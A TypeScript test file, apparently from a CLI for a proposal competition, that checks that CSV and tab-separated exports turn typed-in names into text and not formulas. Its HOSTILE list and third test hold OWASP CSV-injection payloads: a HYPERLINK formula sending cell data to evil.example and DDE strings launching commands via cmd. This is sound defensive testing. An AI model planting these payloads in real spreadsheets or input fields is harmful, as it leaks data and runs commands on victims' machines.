import { readFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { formulaSafeCsv } from "../../src/app/exporting/formulaSafeCsv.ts";
import { seedCompetition, seedProposal } from "../app/status/statusHarness.ts";
import { makeCli, tmpPath } from "../cli/cliHarness.ts";
import { createTestDb, type TestDb } from "../helpers/testDb.ts";

/** Names and titles as an attacker types them in chat (OWASP CSV-injection payloads). */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

let db: TestDb;
const SLUG = "demo-kipp-2023-umum";

beforeAll(async () => {
  db = await createTestDb();
  const competitionId = await seedCompetition(db);
  for (const [i, text] of HOSTILE.entries())
    await seedProposal(db, competitionId, { unit: `${text} #${i}`, title: text });
  await seedProposal(db, competitionId, { unit: 'Dinas "Kominfo", Kota\nBaru', title: "  spasi  " });
});
afterAll(async () => {
  await db.close();
});

/** Reads a CSV file back as a spreadsheet would see its cells. */
function cells(path: string): string[][] {
  return parse(readFileSync(path, "utf8"), { bom: true, relax_column_count: false }) as string[][];
}

/** The hostile texts are read back whole, behind the ' that keeps them text; no cell starts a formula. */
function expectInert(rows: string[][], column: "unit" | "title") {
  const [head, ...body] = rows;
  const at = head!.indexOf(column);
  expect(at).toBeGreaterThanOrEqual(0);
  const values = body.map((r) => r[at]);
  const typed = HOSTILE.map((text, i) => (column === "unit" ? `${text} #${i}` : text));
  // The bulk export writes the unit as "name, instansi": compare the start of the cell.
  for (const text of typed) expect(values.filter((v) => v?.startsWith(`'${text}`))).toHaveLength(1);
  expect(
    values.filter((v) => v?.startsWith(column === "unit" ? 'Dinas "Kominfo", Kota\nBaru' : "  spasi  ")),
  ).toHaveLength(1);
  for (const row of body) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
}

describe("exports of hostile names", () => {
  it("klinik report --csv: every typed-in cell is read back as text, never as a formula", async () => {
    const file = tmpPath("hostile-report.csv");
    const r = await makeCli(db).run("report", "--competition", SLUG, "--csv", file);
    expect(r.code).toBe(0);
    const rows = cells(file);
    expect(rows).toHaveLength(HOSTILE.length + 2);
    expectInert(rows, "unit");
    expectInert(rows, "title");
  });

  it("klinik export proposals --format csv: the same rule", async () => {
    const dir = tmpPath("hostile-export");
    const r = await makeCli(db).run(
      "export",
      "proposals",
      "--competition",
      SLUG,
      "--format",
      "csv",
      "--out-dir",
      dir,
    );
    expect(r.code).toBe(0);
    const rows = cells(join(dir, `${SLUG}-proposals.csv`));
    expectInert(rows, "unit");
    expectInert(rows, "title");
  });

  it("the CLI's tab-separated listings neutralise typed-in names too", async () => {
    const cli = makeCli(db);
    const name = '=HYPERLINK("http://evil.example","Klik")';
    const add = ["--competition", SLUG, "--role", "judge", "--telegram-id", "5550777", "--name", name];
    expect((await cli.run("staff", "add", ...add)).code).toBe(0);
    const line = (await cli.run("staff", "list", "--competition", SLUG)).out
      .split("\n")
      .find((l) => l.includes("5550777"))!;
    const cells = line.split("\t");
    expect(cells[2]).toBe(`'${name}`);
    expect(cells[3]).toBe(`'${name}`);
    for (const cell of cells.filter((c) => c !== "-")) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it("keeps numbers as numbers and quotes separators, quotes and line breaks", () => {
    const text = formulaSafeCsv(["a", "b", "c"], [[-5, "x,y", 'say "hi"\nbye']]);
    expect(text).toBe('\uFEFFa,b,c\r\n-5,"x,y","say ""hi""\nbye"\r\n');
  });
});
